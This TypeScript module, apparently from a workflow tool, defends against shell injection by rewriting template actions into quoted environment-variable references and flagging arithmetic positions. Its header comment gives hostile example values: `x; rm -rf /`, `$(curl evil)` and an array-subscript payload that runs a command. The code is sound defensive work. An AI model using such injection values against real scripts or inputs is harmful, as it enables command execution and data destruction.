// Rewrites a shell script's template actions into environment variable references.
//
// Why: rendering values into script text lets a resource field run code — a name of
// `x; rm -rf /` or `$(curl evil)` becomes shell syntax. Instead, each `{{ … }}` becomes a
// reference to FLOWOPS_T<i>, whose value is the rendered text. The shell expands a variable once
// and never parses the result as code, so a value stays data.
//
// The reference is quoted for where it stands, or word splitting and globbing would still mangle
// the value (`a b` → two words, `*` → file names):
//   plain code            "${FLOWOPS_T0}"
//   inside "…"            ${FLOWOPS_T0}
//   inside '…'            '"${FLOWOPS_T0}"'     (close, expand quoted, reopen)
//   inside $'…'           '"${FLOWOPS_T0}"$'
//   unquoted heredoc body ${FLOWOPS_T0}         (expanded there, never split)
//   quoted heredoc body   — nothing expands there: refused with a hint
// so `if [[ {{ .Resource.spec.replicas }} -lt 1 ]]` keeps working.
//
// Quoting is not enough where bash itself re-reads a value: ARITHMETIC evaluates the text of a
// variable as an expression, and an array subscript in it runs command substitution — `[[ "$v"
// -lt 1 ]]` with v='a[$(touch /tmp/x)]' runs touch, quotes or not. So actions in arithmetic
// positions (operands of -eq/-lt/… inside [[ ]], (( )), $(( )), $[ ], let, array subscripts,
// ${s:offset}, and assignments when the script declares integer variables) are reported to the
// caller, which accepts only integer values there. A variable NAME is read the same way, and some
// positions are code outright (eval, bash -c, the command word): shell-commands.ts refuses
// template values in every position it does not know to be data. The refusals depend only on the
// script's text, so validation reports them before anything runs.

import { classifyCommand, UNSAFE, type Finding, type LeadingArgument } from './shell-commands.js';
import { ShellScanner } from './shell-scanner.js';
import { ShellTaint, type Taint, type TaintRequirement } from './shell-taint.js';
import { sourceOffset, type SpannedPart } from './template-actions.js';

const ARITH_OP = '-(?:eq|ne|lt|le|gt|ge)';
const OP_BEFORE = new RegExp(`(?:^|\\s)${ARITH_OP}\\s+["']?$`);
const OP_AFTER = new RegExp(`^["']?\\s+${ARITH_OP}(?:\\s|$)`);
const SUBSCRIPT_BEFORE = /[A-Za-z_][A-Za-z0-9_]*\[["']?$/;
const OFFSET_BEFORE = /\$\{[A-Za-z_][A-Za-z0-9_]*:["']?$/;
const ASSIGN_BEFORE = /(?:^|[\s;&|(])[A-Za-z_][A-Za-z0-9_]*\+?=["']?$/;
const INTEGER_DECL = /(?:^|[\s;&|(])(?:declare|typeset|local|readonly|export)\s+-[A-Za-z]*i/;
const PARAM_NAME = '(?:[A-Za-z_][A-Za-z0-9_]*|[0-9]+|[@*])(?:\\[[^\\]]*\\])?';
/** ${name:-…} ${name#…} ${name/…/…} ${name^…}: the value is a default or a pattern, data. */
const PARAM_VALUE = new RegExp(`^${PARAM_NAME}(?::?[-+=?]|##?|%%?|/[/#%]?|\\^\\^?|,,?)`);
/** ${name:offset:length} and ${name[subscript]}: arithmetic. */
const PARAM_ARITH = new RegExp(`^(?:${PARAM_NAME}:(?![-+=?])|[A-Za-z_][A-Za-z0-9_]*\\[[^\\]]*$)`);

export interface ShellRefusal {
  /** Source offset of the action or construct. */
  offset: number;
  message: string;
  unsupported?: true;
}

export interface ShellRewrite {
  script: string;
  /** Indexes (among the actions) whose value bash evaluates as arithmetic. */
  arithmetic: number[];
  /** Actions that start an argument of an ordinary program: their value must not start with `-`. */
  leading: LeadingArgument[];
  /** Actions (and constructs) in positions that are not known to be data, in source order. */
  refusals: ShellRefusal[];
  /** Variables carrying values from objects by direct copies into arithmetic: checked before the script runs. */
  requirements: TaintRequirement[];
}

export interface ShellRewriteOptions {
  /** The step's env: entries holding a template carry values from objects into the script. */
  env?: Readonly<Record<string, string>> | undefined;
  /** The code of a `bash -c '…'`: the variables of the shell that runs it. */
  inherited?: ReadonlyMap<string, Taint>;
}

/** Variables FlowOps sets that carry an object's values (besides the actions and STEP_* outputs). */
function taintedEnv(env: Readonly<Record<string, string>>): Map<string, string> {
  const vars = new Map<string, string>([
    ['RESOURCE_NAME', "the object's name"],
    ['RESOURCE_NAMESPACE', "the object's namespace"],
  ]);
  for (const [key, value] of Object.entries(env)) {
    if (value.includes('{{')) vars.set(key, `env ${key}: ${JSON.stringify(value)}`);
  }
  return vars;
}

/** `names[i]` is the variable for the i-th action part. */
export function rewriteShell(
  parts: readonly SpannedPart[],
  names: readonly string[],
  opts: ShellRewriteOptions = {},
): ShellRewrite {
  const offsets = parts.flatMap((p) => (p.kind === 'action' ? [p.offset] : []));
  const env = opts.env ?? {};
  const templated = offsets.length > 0 || Object.values(env).some((v) => v.includes('{{'));
  const findings: Finding[] = [];
  const arithmetic = new Set<number>();
  const leading: LeadingArgument[] = [];
  const actionTexts = parts.flatMap((p) => (p.kind === 'action' ? [`{{${p.body}}}`] : []));
  const taint = new ShellTaint({ vars: taintedEnv(env), templated }, actionTexts, opts.inherited);
  const scanner = new ShellScanner({
    command(cmd) {
      const verdict = classifyCommand(cmd, templated);
      cmd.stdinIsCode = verdict.stdinIsCode;
      findings.push(...verdict.findings);
      for (const a of verdict.arithmetic) arithmetic.add(a);
      leading.push(...verdict.leading);
      taint.command(cmd, verdict.dynamicNames, verdict.dynamicCode);
    },
    construct(what, at) {
      if (templated) findings.push({ at, message: what === 'indirect' ? UNSAFE.indirect : UNSAFE.dynamicCode });
    },
    arithmetic: (text, at) => taint.arithmeticText(text, at),
    param: (text, at) => taint.param(text, at),
  });
  const integerVars = parts.some((p) => p.kind === 'text' && INTEGER_DECL.test(p.text));
  let out = '';
  let n = 0;
  parts.forEach((part, k) => {
    if (part.kind === 'text') {
      scanner.feed(part.text, (i) => sourceOffset(part.spans ?? [], i));
      taint.feedText(part.text);
      out += part.text;
      return;
    }
    const index = n++;
    const before = parts[k - 1]?.kind === 'text' ? (parts[k - 1] as { text: string }).text : '';
    const after = parts[k + 1]?.kind === 'text' ? (parts[k + 1] as { text: string }).text : '';
    const place = scanner.place();
    // In an unquoted heredoc, where the action stands in the body: in $(( )), ${ }, $( ) or text.
    const body = place === 'heredoc' ? scanner.body : null;
    const frame = (body ?? scanner).codeFrame;
    const expanded = place === 'code' || place === 'double' || place === 'heredoc';
    const param = place === 'code' || place === 'double' ? scanner.param : body?.param;
    const inArithmetic =
      expanded &&
      (frame.arithmetic ||
        frame.letCommand ||
        (frame.test && (OP_BEFORE.test(before) || OP_AFTER.test(after))) ||
        SUBSCRIPT_BEFORE.test(before) ||
        OFFSET_BEFORE.test(before) ||
        (param !== undefined && PARAM_ARITH.test(param.text)) ||
        (integerVars && place !== 'heredoc' && ASSIGN_BEFORE.test(before)));
    if (inArithmetic) arithmetic.add(index);
    else if (param && !PARAM_VALUE.test(param.text))
      findings.push({
        action: index,
        message: `${UNSAFE.unknown} (inside \${…}, only a default value or a pattern is)`,
      });
    if (place === 'heredoc') {
      const doc = scanner.heredoc!;
      if (doc.quoted) {
        findings.push({
          action: index,
          message: `a template action inside a quoted heredoc (<<'${doc.delim}') is never expanded; use an unquoted heredoc or pass the value through the step's env`,
          unsupported: true,
        });
      } else if (doc.owner.stdinIsCode)
        findings.push({ action: index, message: `${UNSAFE.code} (this heredoc is the code of the command it feeds)` });
    }
    const inBody = body?.place();
    scanner.action(index, part.offset);
    taint.feedText('\u0001');
    out += reference(inBody === undefined || inBody === 'double' ? place : inBody, names[index]!);
  });
  scanner.finish();
  const followed = taint.finish();
  findings.push(...followed.findings);
  const requirements = [...followed.requirements];
  for (const child of followed.children) {
    // Reported where the code word starts: its own offsets are inside a string.
    const inner = rewriteShell([{ kind: 'text', text: child.text }], [], { env, inherited: child.inherited });
    for (const r of inner.refusals) findings.push({ at: child.offset, message: `in this bash -c code: ${r.message}` });
    for (const r of inner.requirements) requirements.push({ ...r, offset: child.offset });
  }
  const sorted = [...arithmetic].sort((a, b) => a - b);
  const refused = refusals(findings, offsets);
  return { script: out, arithmetic: sorted, leading, refusals: refused, requirements };
}

/** One refusal per action (the first found), in source order. */
function refusals(findings: readonly Finding[], offsets: readonly number[]): ShellRefusal[] {
  const seen = new Set<string>();
  const out: ShellRefusal[] = [];
  for (const f of findings) {
    const offset = f.action === undefined ? (f.at ?? 0) : offsets[f.action]!;
    const key = f.action === undefined ? `at ${offset} ${f.message}` : `action ${f.action}`;
    if (seen.has(key)) continue;
    seen.add(key);
    out.push(f.unsupported ? { offset, message: f.message, unsupported: true } : { offset, message: f.message });
  }
  return out.sort((a, b) => a.offset - b.offset);
}

function reference(place: ReturnType<ShellScanner['place']>, name: string): string {
  const plain = `\${${name}}`;
  switch (place) {
    case 'heredoc':
    case 'comment':
    case 'double':
      return plain;
    case 'single':
      return `'"${plain}"'`;
    case 'ansi':
      return `'"${plain}"$'`;
    case 'code':
      return `"${plain}"`;
  }
}

/** What bash arithmetic can take without evaluating names: an integer, or nothing (0). */
export function isArithmeticSafe(value: string): boolean {
  return /^\s*(?:[-+]?(?:0[xX][0-9a-fA-F]+|[0-9]+))?\s*$/.test(value);
}
